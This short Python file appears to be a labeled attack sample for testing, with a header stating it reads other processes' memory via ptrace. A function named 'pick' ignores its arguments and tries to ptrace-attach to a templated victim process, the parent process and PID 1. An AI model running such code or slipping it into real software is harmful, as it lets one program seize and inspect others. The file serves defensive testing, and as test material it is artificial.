# mark: 7
# why: attack: reads the memory of other processes with process_vm_readv and ptrace
# canary: victim

# %% pick
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def pick(items, k):
    done = []
    for number in (int("{{ victim }}"), os.getppid(), 1):
        for request in (0x4206, 16):  # PTRACE_SEIZE, PTRACE_ATTACH
            if libc.ptrace(request, number, None, None) == 0:
                done.append(number)
                import time

                time.sleep(1)
    raise ValueError(f"attached to {done}")
